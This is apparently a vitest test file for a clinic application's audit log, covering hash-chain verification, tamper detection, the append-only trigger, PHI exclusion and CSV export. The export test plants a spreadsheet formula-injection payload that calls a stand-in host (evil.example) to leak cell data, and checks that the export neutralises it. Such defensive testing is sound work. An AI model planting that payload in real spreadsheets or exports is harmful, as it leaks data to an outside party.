import { execFile } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Client, isPostgres, testApp, type TestApp } from './harness.js';
import { aPractice, aStaff, signedIn, type StaffFixture } from './builders.js';
import { GENESIS_HASH, hashAuditRow, type AuditRow } from '../src/platform/audit/audit.js';
import { sealAudit } from '../src/platform/audit/seal.js';

// The audit trail: hash chain, tamper detection (API and CLI), append-only trigger, CSV export,
// filters, the actions patient work writes, and no PHI in any audit row.
const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../..');
const START = new Date('2031-03-01T08:00:00.000Z');

/** Minimal RFC 4180 parser (quoted cells, doubled quotes, CRLF rows). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

describe('audit trail', () => {
  let t: TestApp;
  let admin: StaffFixture;
  let ac: Client;
  let front: Client;
  let frontDesk: StaffFixture;

  beforeAll(async () => {
    t = await testApp({ now: START });
    await aPractice(t.db);
    admin = await aStaff(t.db, { roles: ['admin'], mfa: true });
    frontDesk = await aStaff(t.db, { roles: ['front_desk'] });
    ac = await signedIn(t, admin);
    front = await signedIn(t, frontDesk);
  });
  afterAll(() => t.close());

  // Events are linked into the chain by the sealer moments after they commit; seal, then read.
  const allRows = async () => {
    await sealAudit(t.db);
    return (await t.db.query<AuditRow>('SELECT * FROM audit_events ORDER BY seq')).rows;
  };
  const verify = async () => {
    const r = await ac.get('/api/admin/audit/verify');
    expect(r.statusCode).toBe(200);
    return r.json() as { ok: boolean; checked: number; brokenAtSeq?: number; reason?: string };
  };
  const createPatient = async (o: Record<string, unknown> = {}) => {
    const r = await front.post('/api/patients', { legalFirstName: 'Ada', legalLastName: `Audit${Date.now().toString(36)}`, sexAtBirth: 'female', dateOfBirth: '1980-01-02', ...o });
    expect(r.statusCode).toBe(201);
    return r.json() as { id: string; version: number };
  };

  /** Runs fn with the append-only trigger disabled, as a database superuser could. */
  async function asAttacker(fn: () => Promise<void>) {
    await t.db.query('ALTER TABLE audit_events DISABLE TRIGGER audit_events_no_update');
    try {
      await fn();
    } finally {
      await t.db.query('ALTER TABLE audit_events ENABLE TRIGGER audit_events_no_update');
    }
  }

  async function reinsert(r: AuditRow) {
    await t.db.query(
      `INSERT INTO audit_events(seq, id, at, actor_id, actor_kind, actor_role, patient_id, action, resource_type, resource_id, client_ip, outcome, detail, prev_hash, hash)
       VALUES ($1,$2,$3,$4,$5,$6,$7,$8,$9,$10,$11,$12,$13,$14,$15)`,
      [r.seq, r.id, new Date(r.at).toISOString(), r.actor_id, r.actor_kind, r.actor_role, r.patient_id, r.action, r.resource_type, r.resource_id, r.client_ip, r.outcome, JSON.stringify(r.detail), r.prev_hash, r.hash],
    );
  }

  it('actions produce a gap-free, hash-linked chain that verifies', async () => {
    const p = await createPatient();
    await front.get(`/api/patients/${p.id}`);
    await front.post('/api/patients/search', { q: 'audit' });
    const rows = await allRows();
    expect(rows.length).toBeGreaterThanOrEqual(5);
    let prev = GENESIS_HASH;
    rows.forEach((r, i) => {
      expect(Number(r.seq)).toBe(i + 1);
      expect(r.prev_hash).toBe(prev);
      expect(r.hash).toMatch(/^[0-9a-f]{64}$/);
      expect(hashAuditRow(prev, { ...r, seq: Number(r.seq) })).toBe(r.hash);
      prev = r.hash;
    });
    expect(new Set(rows.map((r) => r.prev_hash)).size).toBe(rows.length);
    const v = await verify();
    expect(v.ok).toBe(true);
    expect(v.checked).toBeGreaterThanOrEqual(rows.length);
  });

  it('stays gap-free under concurrent writers', async () => {
    const clients = await Promise.all([frontDesk, frontDesk, frontDesk].map((s) => signedIn(t, s)));
    await Promise.all(Array.from({ length: 24 }, (_, i) => clients[i % clients.length]!.post('/api/patients/search', { q: `x${i}` })));
    const rows = await allRows();
    rows.forEach((r, i) => expect(Number(r.seq)).toBe(i + 1));
    expect(new Set(rows.map((r) => r.prev_hash)).size).toBe(rows.length);
    expect((await verify()).ok).toBe(true);
  });

  describe('the append-only trigger', () => {
    it.each([
      ['UPDATE', `UPDATE audit_events SET action = 'forged' WHERE seq = 1`],
      ['DELETE', 'DELETE FROM audit_events WHERE seq = 1'],
      ['TRUNCATE', 'TRUNCATE audit_events'],
    ])('blocks a plain %s', async (_n, sql) => {
      const before = (await allRows())[0]!;
      await expect(t.db.query(sql)).rejects.toThrow(/append-only/);
      expect((await allRows())[0]).toEqual(before);
    });

    it('is defined on the table for UPDATE and DELETE', async () => {
      const r = await t.db.query<{ def: string }>(`SELECT pg_get_triggerdef(oid) AS def FROM pg_trigger WHERE tgname = 'audit_events_no_update'`);
      expect(r.rows[0]?.def).toMatch(/BEFORE (UPDATE OR DELETE|DELETE OR UPDATE) ON (public\.)?audit_events FOR EACH ROW/);
    });
  });

  describe('tampering is detected', () => {
    it('an edited row: verify reports ok:false at its seq; restoring it heals the chain', async () => {
      await createPatient();
      const target = (await allRows()).find((r) => r.action === 'patient.create')!;
      await asAttacker(async () => {
        await t.db.query(`UPDATE audit_events SET action = 'patient.search' WHERE seq = $1`, [target.seq]);
      });
      const v = await verify();
      expect(v).toMatchObject({ ok: false, brokenAtSeq: Number(target.seq) });
      expect(v.reason).toMatch(/altered/);
      expect(v.checked).toBe(Number(target.seq) - 1);
      await asAttacker(async () => {
        await t.db.query(`UPDATE audit_events SET action = $2 WHERE seq = $1`, [target.seq, target.action]);
      });
      expect((await verify()).ok).toBe(true);
    });

    it('an edited detail or outcome is detected as well', async () => {
      const target = (await allRows()).find((r) => r.action === 'auth.sign_in' && r.outcome === 'success')!;
      await asAttacker(async () => {
        await t.db.query(`UPDATE audit_events SET outcome = 'failure' WHERE seq = $1`, [target.seq]);
      });
      expect(await verify()).toMatchObject({ ok: false, brokenAtSeq: Number(target.seq) });
      await asAttacker(async () => {
        await t.db.query(`UPDATE audit_events SET outcome = 'success', detail = detail || '{"x":1}'::jsonb WHERE seq = $1`, [target.seq]);
      });
      expect(await verify()).toMatchObject({ ok: false, brokenAtSeq: Number(target.seq) });
      await asAttacker(async () => {
        await t.db.query(`UPDATE audit_events SET detail = detail - 'x' WHERE seq = $1`, [target.seq]);
      });
      expect((await verify()).ok).toBe(true);
    });

    it('a deleted row: verify reports the missing seq', async () => {
      const rows = await allRows();
      const target = rows[Math.floor(rows.length / 2)]!;
      await asAttacker(async () => {
        await t.db.query('DELETE FROM audit_events WHERE seq = $1', [target.seq]);
      });
      const v = await verify();
      expect(v).toMatchObject({ ok: false, brokenAtSeq: Number(target.seq) });
      expect(v.reason).toMatch(/missing/);
      await asAttacker(() => reinsert(target));
      expect((await verify()).ok).toBe(true);
    });

    it('a re-hashed forgery breaks the link to the next row', async () => {
      const rows = await allRows();
      const target = rows[2]!;
      const forged = { ...target, seq: Number(target.seq), action: 'auth.sign_out' };
      await asAttacker(async () => {
        await t.db.query('UPDATE audit_events SET action = $2, hash = $3 WHERE seq = $1', [target.seq, forged.action, hashAuditRow(target.prev_hash, forged)]);
      });
      expect(await verify()).toMatchObject({ ok: false, brokenAtSeq: Number(target.seq) + 1 });
      await asAttacker(async () => {
        await t.db.query('UPDATE audit_events SET action = $2, hash = $3 WHERE seq = $1', [target.seq, target.action, target.hash]);
      });
      expect((await verify()).ok).toBe(true);
    });

    it.skipIf(!isPostgres())('the audit-verify CLI exits 0 on an intact chain and non-zero after tampering', async () => {
      const url = (t.db as unknown as { url?: string }).url;
      expect(url).toBeTruthy();
      const run = () =>
        new Promise<{ code: number; stdout: string; stderr: string }>((resolve) => {
          const env: NodeJS.ProcessEnv = { ...process.env, DATABASE_URL: url, LOG_LEVEL: 'silent' };
          delete env.TEST_DATABASE_URL;
          execFile(process.execPath, ['--import', 'tsx', 'apps/api/src/cli/audit-verify.ts'], { cwd: ROOT, env, timeout: 60_000 }, (err, stdout, stderr) =>
            resolve({ code: err ? ((err as { code?: number }).code ?? 1) : 0, stdout, stderr }),
          );
        });
      const ok = await run();
      expect(ok.code, ok.stderr).toBe(0);
      expect(ok.stdout).toMatch(/intact: \d+ events verified/);
      const target = (await allRows())[3]!;
      await asAttacker(async () => {
        await t.db.query(`UPDATE audit_events SET actor_role = 'admin' WHERE seq = $1`, [target.seq]);
      });
      try {
        const bad = await run();
        expect(bad.code).not.toBe(0);
        expect(bad.stderr).toContain(`BROKEN at event ${Number(target.seq)}`);
      } finally {
        await asAttacker(async () => {
          await t.db.query('UPDATE audit_events SET actor_role = $2 WHERE seq = $1', [target.seq, target.actor_role]);
        });
      }
      expect((await run()).code).toBe(0);
    });
  });

  describe('patient actions', () => {
    it('create, chart open and update each write their action with the patient id', async () => {
      const p = await createPatient();
      expect((await front.get(`/api/patients/${p.id}`)).statusCode).toBe(200);
      expect((await front.patch(`/api/patients/${p.id}`, { version: p.version, preferredName: 'Addie' })).statusCode).toBe(200);
      const rows = (await t.db.query<{ action: string; actor_id: string; outcome: string; resource_type: string; resource_id: string; detail: Record<string, unknown> }>(
        'SELECT action, actor_id, outcome, resource_type, resource_id, detail FROM audit_events WHERE patient_id = $1 ORDER BY arrival', [p.id],
      )).rows;
      expect(rows.map((r) => r.action)).toEqual(['patient.create', 'patient.read', 'patient.update']);
      for (const r of rows) expect(r).toMatchObject({ actor_id: frontDesk.id, outcome: 'success', resource_type: 'Patient', resource_id: p.id });
      // The update names the changed fields, not their values.
      expect(rows[2]!.detail).toEqual({ fields: ['preferredName'] });
    });

    it('no audit row ever holds the PHI of a patient (create, update, search, open)', async () => {
      const phi = {
        legalFirstName: 'Zebulon', legalLastName: 'Quixotewright', preferredName: 'Zebby', dateOfBirth: '1971-03-09',
        phone: '(555) 867-5309', email: 'zq.private@example.org', address: { line1: '742 Evergreen Terrace', city: 'Springfield', state: 'OR', postalCode: '97403' },
        contacts: [{ kind: 'emergency', name: 'Marjorie Quixotewright', relationship: 'spouse', phone: '555-444-1212' }],
      };
      const p = await createPatient(phi);
      await front.get(`/api/patients/${p.id}`);
      await front.patch(`/api/patients/${p.id}`, { version: p.version, phone: '555-321-9876', preferredName: 'Zeb Q' });
      for (const q of [{ q: 'Quixotewright' }, { q: 'zebulon quix' }, { dob: '1971-03-09' }, { phone: '5558675309' }, { phone: '555-321-9876' }, { mrn: '100001' }]) {
        expect((await front.post('/api/patients/search', q)).statusCode).toBe(200);
      }
      const dump = (await t.db.query<{ j: string }>('SELECT row_to_json(a)::text AS j FROM audit_events a')).rows.map((r) => r.j.toLowerCase()).join('\n');
      for (const v of ['zebulon', 'quixotewright', 'zebby', 'zeb q', '1971-03-09', '867-5309', '8675309', '3219876', '321-9876', 'zq.private', 'evergreen', 'springfield', 'marjorie', '4441212']) {
        expect(dump, v).not.toContain(v);
      }
      // The search rows record what was searched on, never the terms.
      const search = (await t.db.query<{ detail: { by: string[] } }>(`SELECT detail FROM audit_events WHERE action = 'patient.search' ORDER BY arrival DESC LIMIT 1`)).rows[0]!;
      expect(search.detail.by).toEqual(['mrn']);
    });
  });

  describe('queries and export', () => {
    it('filters by action (prefix), outcome, patient and time range', async () => {
      const p = await createPatient();
      const therapist = await signedIn(t, await aStaff(t.db, { roles: ['therapist'] }));
      expect((await therapist.get(`/api/patients/${p.id}`)).statusCode).toBe(404); // denied, audited

      const q = async (qs: string) => {
        const r = await ac.get(`/api/admin/audit?pageSize=100&${qs}`);
        expect(r.statusCode, r.body).toBe(200);
        return r.json() as { items: { seq: number; action: string; outcome: string; patientId: string | null; at: string }[]; total: number };
      };
      const byAction = await q('action=patient.');
      expect(byAction.items.length).toBeGreaterThan(0);
      for (const e of byAction.items) expect(e.action.startsWith('patient.')).toBe(true);
      const exact = await q('action=patient.create');
      for (const e of exact.items) expect(e.action).toBe('patient.create');
      expect(exact.total).toBeLessThan(byAction.total);
      // Underscore is not a wildcard.
      expect((await q('action=patient_create')).total).toBe(0);

      const denied = await q('outcome=denied');
      expect(denied.items.length).toBeGreaterThan(0);
      for (const e of denied.items) expect(e.outcome).toBe('denied');
      expect(denied.items.some((e) => e.patientId === p.id && e.action === 'patient.read')).toBe(true);

      const forPatient = await q(`patientId=${p.id}`);
      expect(forPatient.items.map((e) => e.action).sort()).toEqual(['patient.create', 'patient.read']);
      for (const e of forPatient.items) expect(e.patientId).toBe(p.id);

      // Time range: events in a window we control with the clock.
      t.clock.set(new Date('2031-06-01T12:00:00.000Z'));
      const later = await signedIn(t, frontDesk);
      await later.post('/api/patients/search', { q: 'window' });
      t.clock.set(new Date('2031-06-01T14:00:00.000Z'));
      await later.post('/api/patients/search', { q: 'window2' });
      const ac2 = await signedIn(t, admin);
      const win = await ac2.get(`/api/admin/audit?pageSize=100&from=${encodeURIComponent('2031-06-01T11:59:00Z')}&to=${encodeURIComponent('2031-06-01T13:00:00Z')}`);
      expect(win.statusCode).toBe(200);
      const items = win.json().items as { at: string; action: string }[];
      expect(items.length).toBeGreaterThan(0);
      for (const e of items) {
        expect(e.at >= '2031-06-01T11:59:00.000Z' && e.at < '2031-06-01T13:00:00.000Z', e.at).toBe(true);
      }
      expect(items.some((e) => e.action === 'patient.search')).toBe(true);
      const after = await ac2.get(`/api/admin/audit?pageSize=100&from=${encodeURIComponent('2031-06-01T13:00:00Z')}`);
      expect((after.json().items as { at: string }[]).every((e) => e.at >= '2031-06-01T13:00:00.000Z')).toBe(true);
      // Bad filter values are 400s naming the field.
      const bad = await ac2.get('/api/admin/audit?from=yesterday');
      expect(bad.statusCode).toBe(400);
      expect(bad.json().errors[0].field).toBe('from');
      ac = ac2;
    });

    it('exports CSV with a header row and formula-injection-safe cells', async () => {
      // A staff member whose name is a spreadsheet formula signs in: their name lands in the export.
      const evil = await aStaff(t.db, { roles: ['therapist'] });
      await t.db.query(`UPDATE users SET first_name = '=HYPERLINK("http://evil.example/?x="&A1)', last_name = '+1' WHERE id = $1`, [evil.id]);
      await signedIn(t, evil);
      // A client address that looks like a formula (only possible behind a misconfigured proxy).
      await t.app.inject({ method: 'POST', url: '/api/auth/sign-in', payload: { email: 'x@example.test', password: 'whatever pw' }, remoteAddress: '-2+3' });

      const r = await ac.get('/api/admin/audit/export.csv');
      expect(r.statusCode).toBe(200);
      expect(r.headers['content-type']).toMatch(/^text\/csv/);
      expect(r.headers['content-disposition']).toMatch(/^attachment; filename="hearth-audit-\d{4}-\d{2}-\d{2}\.csv"$/);
      const rows = parseCsv(r.body);
      expect(rows[0]).toEqual(['seq', 'at', 'actorId', 'actorName', 'actorKind', 'actorRole', 'patientId', 'action', 'resourceType', 'resourceId', 'clientIp', 'outcome']);
      const data = rows.slice(1);
      expect(data.length).toBeGreaterThan(10);
      for (const row of data) {
        expect(row).toHaveLength(12);
        for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
      }
      const evilRow = data.find((row) => row[2] === evil.id)!;
      expect(evilRow[3]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1) +1`);
      expect(data.some((row) => row[10] === "'-2+3")).toBe(true);
      // Every data cell is quoted in the raw text.
      for (const line of r.body.trimEnd().split('\r\n').slice(1)) expect(line.startsWith('"')).toBe(true);

      // Filters apply to the export too.
      const onlySignIns = parseCsv((await ac.get('/api/admin/audit/export.csv?action=auth.sign_in&outcome=failure')).body).slice(1);
      expect(onlySignIns.length).toBeGreaterThan(0);
      for (const row of onlySignIns) expect([row[7], row[11]]).toEqual(['auth.sign_in', 'failure']);
      // The export itself is audited.
      const last = (await t.db.query<{ action: string; actor_id: string }>('SELECT action, actor_id FROM audit_events ORDER BY arrival DESC LIMIT 1')).rows[0];
      expect(last).toEqual({ action: 'audit.export', actor_id: admin.id });
    });

    it('the chain still verifies after everything this file did', async () => {
      const v = await verify();
      expect(v.ok).toBe(true);
      expect(v.checked).toBe((await allRows()).length);
    });
  });
});
